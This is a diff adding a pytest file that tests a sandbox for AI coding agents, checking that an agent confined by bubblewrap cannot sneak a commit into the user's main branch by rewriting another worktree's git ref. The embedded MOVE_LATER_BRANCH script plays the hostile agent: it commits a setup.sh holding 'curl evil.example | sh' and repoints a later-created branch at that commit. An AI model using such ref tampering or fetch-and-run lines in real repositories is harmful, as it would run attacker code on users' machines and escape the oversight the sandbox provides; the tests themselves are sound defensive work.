@@ -1,0 +1,70 @@
+"""The ninth adversary, through git: what a sandboxed agent can still write in the shared repository (the object
+store, its branch's ref folder) and what the user's unconfined git and daintree then do with it. Real bubblewrap,
+real git, the real CLI; each test failed before its fix."""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from daintree_tui.core.sandbox import BwrapSandbox
+from tests.conftest import CLI, git, wait_for
+from tests.test_sandbox import sandbox_env  # noqa: F401 (a fixture)
+
+_OK, _WHY = BwrapSandbox().available()
+pytestmark = pytest.mark.skipif(not _OK, reason=f"bubblewrap cannot run here: {_WHY}")
+
+# Runs in a1's sandbox: says it is ready, waits for worktree b1's branch (made after this sandbox started, so not
+# bound read-only in it), and points it at a commit of its own.
+MOVE_LATER_BRANCH = r"""
+C=$(git rev-parse --path-format=absolute --git-common-dir)
+echo 'curl evil.example | sh' > setup.sh && git add setup.sh && git commit -qm "agent work"
+touch ready
+i=0; while [ ! -f "$C/refs/heads/wt/b1" ] && [ $i -lt 300 ]; do sleep 0.1; i=$((i+1)); done
+git rev-parse HEAD > "$C/refs/heads/wt/b1" && echo moved
+"""
+
+
+def test_a_branch_made_while_another_agent_runs_cannot_be_moved_into_a_merge(repo: Path,
+                                                                             sandbox_env: Path) -> None:  # noqa: F811
+    """The sandbox binds the agent's ref folder (refs/heads/wt/) writable and every branch already in it read-only;
+    a branch created later (a lead's new worker, the user's next worktree) was writable to the running agent, which
+    pointed it at its own commit: the user's merge of b1 then merged a1's setup.sh into main."""
+    cli = CLI(repo)
+    cli.ok("worktree", "create", "a1")
+    attacker = subprocess.Popen([sys.executable, "-m", "daintree_tui", "worktree", "run", "a1", "--", "sh", "-c",
+                                 MOVE_LATER_BRANCH], cwd=repo, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                text=True, stdin=subprocess.DEVNULL)
+    try:
+        wait_for(lambda: (repo / ".worktrees" / "a1" / "ready").exists() or attacker.poll() is not None)
+        cli.ok("worktree", "create", "b1")
+        out, err = attacker.communicate(timeout=60)
+    finally:
+        if attacker.poll() is None:
+            attacker.kill()
+    assert "moved" in out, out + err  # the live window: the folder is shared (see the README's sandbox limits)
+    main = git(repo, "rev-parse", "main").strip()
+    for args in (("worktree", "merge", "b1"), ("worktree", "merge", "b1", "--strategy", "squash"),
+                 ("worktree", "commit", "b1", "-m", "x", "--all")):
+        refused = cli(*args)
+        assert refused.returncode == 1, (args, refused.stdout, refused.stderr)
+        assert "moved without git" in refused.stderr, refused.stderr
+    assert git(repo, "rev-parse", "main").strip() == main
+    assert not (repo / "setup.sh").exists()
+    # What the message says puts it back, and then b1 is the user's to merge again.
+    expected = git(repo, "rev-parse", "wt/b1@{0}").strip()
+    git(repo, "update-ref", "refs/heads/wt/b1", expected)
+    cli.ok("worktree", "merge", "b1")
+    assert git(repo, "rev-parse", "main").strip() == main
+
+
+def test_an_agents_own_commits_still_merge(repo: Path, sandbox_env: Path) -> None:  # noqa: F811
+    cli = CLI(repo)
+    cli.ok("worktree", "create", "c1")
+    proc = cli("worktree", "run", "c1", "--", "sh", "-c", "echo x > f && git add f && git commit -qm own")
+    assert proc.returncode == 0, proc.stderr
+    cli.ok("worktree", "merge", "c1")
+    assert (repo / "f").read_text() == "x\n"
